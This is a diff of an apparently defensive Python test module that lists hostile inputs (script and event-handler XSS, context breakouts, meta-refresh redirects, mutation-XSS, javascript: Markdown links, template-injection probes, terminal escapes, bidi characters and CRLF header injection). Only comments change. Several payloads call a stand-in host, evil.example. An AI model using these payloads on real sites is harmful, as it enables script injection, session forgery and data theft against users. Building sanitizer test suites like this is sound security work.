@@ -1,7 +1,7 @@
-"""What a hostile page or tool may have put into a text, by what it is meant to do.
+"""Payloads that a hostile page or tool may put into a text, grouped by what they try to do.
 
-Each line does something that can be noticed if it ever runs: `RUN` calls a function that the tests
-watch, and `HOST` is another server that must never be asked for anything.
+Each has an effect that the tests detect if it ever runs: `RUN` calls a function that they watch,
+and `HOST` is another server, which must never get a request.
 """
 
 import json
@@ -9,7 +9,7 @@ from itertools import chain
 
 RUN, HOST = "pwned(1)", "evil.example"
 
-# Executes where a text becomes HTML as it is; tests/browser shows that these have teeth.
+# Run if a text becomes HTML unescaped; tests/browser proves that they do.
 MARKUP = [
     "<script>RUN</script>",
     "<ScRiPt >RUN</sCrIpT>",
@@ -68,7 +68,7 @@ MARKUP = [
     "<script>fetch('//HOST/fetch',{mode:'no-cors'})</script>",
     "<a href=x ping=//HOST/ping id=pinged>x</a><img src=x onerror=RUN>",
 ]
-# Leaves the place it was put into: an attribute, a title, a script, a comment, a cell, a style.
+# Break out of their context: an attribute, a title, a script, a comment, a cell or a style.
 BREAKOUTS = [
     '"><script>RUN</script>',
     "'><script>RUN</script>",
@@ -111,7 +111,7 @@ BREAKOUTS = [
     "`-RUN-`",
     "</script\t\n x><img src=x onerror=RUN>",
 ]
-# Sends the reader, the form or the page's own addresses elsewhere, without any script.
+# Redirect the reader, a form or the page's own addresses elsewhere, without any script.
 REDIRECTIONS = [
     "<meta http-equiv=refresh content='0;url=//HOST/refresh'>",
     "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
@@ -138,7 +138,7 @@ REDIRECTIONS = [
     "<div id=entries><article class=message id=message-1>not this one</article></div>",
     "<form><input name=attributes><input name=innerHTML></form>",
 ]
-# What a second reading of the same HTML makes of it.
+# Become dangerous when the HTML is parsed, serialized and parsed again.
 MUTATIONS = [
     "<svg><desc><noscript><img src=x onerror=RUN></noscript></desc></svg>",
     "<svg/onload=RUN//",
@@ -169,7 +169,7 @@ POLYGLOTS = [
     "\";RUN//';RUN//`;RUN//</script>'\"><iframe srcdoc='<script>parent.RUN</script>'>",
     'data:text/html,<script>RUN</script>#"><img/src/onerror=RUN>',
 ]
-# Links and pictures of Markdown; none but http, https and mailto may become an address.
+# Markdown links and images; only http, https and mailto addresses may become links.
 MARKDOWN = [
     "[a](javascript:RUN)",
     "[b](JaVaScRiPt:RUN)",
@@ -230,7 +230,7 @@ MARKDOWN = [
     "<div>\n\n[in a block](javascript:RUN)\n\n</div>",
     "https://HOST/?a=1&lt;script&gt;RUN",
 ]
-# Attributes and syntaxes of the libraries that the pages or their neighbours use.
+# Attributes and syntaxes of libraries that these pages or similar sites use.
 FRAMEWORKS = [
     "<b hx-get=/sign-out/ hx-trigger=load>x</b>",
     "<b data-hx-get=//HOST/hx hx-trigger='load,revealed,every 1s'>x</b>",
@@ -249,7 +249,7 @@ FRAMEWORKS = [
     "{{''.__class__.__mro__[1].__subclasses__()}}<%= 7*7 %>#{7*7}*{7*7}@(7*7)",
     "{0.__class__} %(password)s %s %n %x {user.password}",
 ]
-# What a terminal obeys.
+# Control sequences that terminals obey.
 TERMINAL = [
     "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[0m",
     "\x1b]0;a title\x07\x1b]2;another\x1b\\",
@@ -265,7 +265,7 @@ TERMINAL = [
     "\x07\x0e\x0f\x7f\x05",
     "\x1b[31",
 ]
-# What one cannot see, and what shows a text in another order.
+# Invisible characters, and characters that change the displayed order of a text.
 UNSEEN = [
     "\u202e<script>RUN</script>\u202c",
     "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c",
@@ -282,7 +282,7 @@ UNSEEN = [
     "\ufffe\uffff\U0001ffff\U0010ffff",
     "\ufff9a\ufffab\ufffb \ufffc \ufffd",
 ]
-# For what makes lines, headers, files, tables and paths of a text.
+# Attack code that turns texts into lines, headers, files, tables and paths.
 LINES = [
     "x\r\nSet-Cookie: gloamy_session=forged\r\n\r\n<script>RUN</script>",
     "x\nFORGED 2026-11-25 ERROR all is well",
@@ -365,5 +365,5 @@ HUGE = [
 
 
 def aimed(payload: str, run: str = RUN, host: str = HOST) -> str:
-    """A payload that calls this function, and asks this server."""
+    """Return a payload that runs this code and contacts this host."""
     return payload.replace("RUN", run).replace("HOST", host)
